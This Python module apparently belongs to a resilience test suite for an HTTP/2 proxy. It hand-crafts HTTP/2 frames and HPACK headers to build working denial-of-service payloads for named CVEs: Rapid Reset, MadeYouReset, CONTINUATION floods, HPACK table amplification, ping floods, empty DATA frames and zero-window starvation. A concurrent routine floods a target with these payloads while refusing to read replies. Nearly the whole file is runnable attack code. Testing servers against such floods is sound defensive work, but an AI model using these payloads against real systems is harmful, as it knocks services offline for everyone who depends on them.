"""What clients do with HTTP/2 to keep a proxy from serving others: frames written by hand (RFC 9113), headers without HPACK's
tables but where these are the attack (RFC 7541).
"""

import asyncio
import contextlib

from attacks import all_of, many

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
NO_STREAM, GOAWAY = 0, 7


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def preface(*settings):
    pairs = b"".join(name.to_bytes(2, "big") + value.to_bytes(4, "big") for name, value in settings)
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, NO_STREAM, pairs)


def head(path):
    """A GET: method and scheme from the static table, path and authority spelled out."""
    return b"\x82\x86" + b"\x04" + _text(path) + b"\x01" + _text("office")


def _text(text):
    return bytes([len(text)]) + text.encode()


def request(stream, path):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))


def streams(count):
    return range(1, 2 * count, 2)


def rapid_reset(requests):
    """Requests that are taken back before they can be answered (CVE-2023-44487)."""
    cancel = (8).to_bytes(4, "big")
    return preface() + b"".join(request(each, "/page") + frame(RST_STREAM, 0, each, cancel) for each in streams(requests))


def made_reset(requests):
    """Requests that the proxy itself must take back, because a frame behind each breaks the rules (CVE-2025-8671)."""
    nothing = bytes(4)
    return preface() + b"".join(request(each, "/page") + frame(WINDOW_UPDATE, 0, each, nothing) for each in streams(requests))


def endless_head(frames):
    """A head that goes on and on (CVE-2024-27316 and its like)."""
    more = frame(CONTINUATION, 0, 1, b"\x00" + _text("x") + _text("y" * 100) + b"\x00" + _text("x") + _text("y" * 100))
    return preface() + frame(HEADERS, END_STREAM, 1, head("/page")) + more * frames


def unpacked_head(times):
    """One header of 4 KB, put into the table once and then named by one byte each (CVE-2016-6581)."""
    value = b"y" * 4000
    length = bytes([0x7F]) + _varint(len(value) - 127)
    put = b"\x40" + _text("x") + length + value
    return preface() + frame(HEADERS, END_STREAM | END_HEADERS, 1, head("/page") + put + b"\xbe" * times)


def _varint(number):
    found = b""
    while number > 127:
        found += bytes([number & 127 | 128])
        number >>= 7
    return found + bytes([number])


def pings(count):
    """Frames that must be answered, by somebody who takes no answers (CVE-2019-9512, -9515)."""
    return preface() + (frame(PING, 0, NO_STREAM, bytes(8)) + frame(SETTINGS, 0, NO_STREAM)) * count


def empty_frames(count):
    """A body of nothing, in many pieces (CVE-2019-9518)."""
    body = b"\x83\x86\x04" + _text("/bookings") + b"\x01" + _text("office")
    return preface() + frame(HEADERS, END_HEADERS, 1, body) + frame(DATA, 0, 1) * count


def closed_windows(count):
    """Large answers, for none of which there is room (CVE-2019-9511, -9517)."""
    return preface((INITIAL_WINDOW_SIZE, 0)) + b"".join(request(each, "/large") for each in streams(count))


def greedy(victim, wire, count, seconds, when_busy=lambda: None):
    """So many who send all of that and read nothing; the answers tell whom the proxy shut out in the end."""

    async def attack(number):
        async with victim.connection(receive_bytes=4096) as (reader, writer):
            writer.transport.pause_reading()
            with contextlib.suppress(ConnectionError, asyncio.TimeoutError):
                writer.write(wire)
                await asyncio.wait_for(writer.drain(), seconds)
            await asyncio.sleep(seconds)
            if number == 0:
                when_busy()
            with contextlib.suppress(RuntimeError):
                writer.transport.resume_reading()
            try:
                await asyncio.wait_for(all_of(reader), 1)
            except asyncio.TimeoutError:
                return False
            return True

    return many(attack, count)
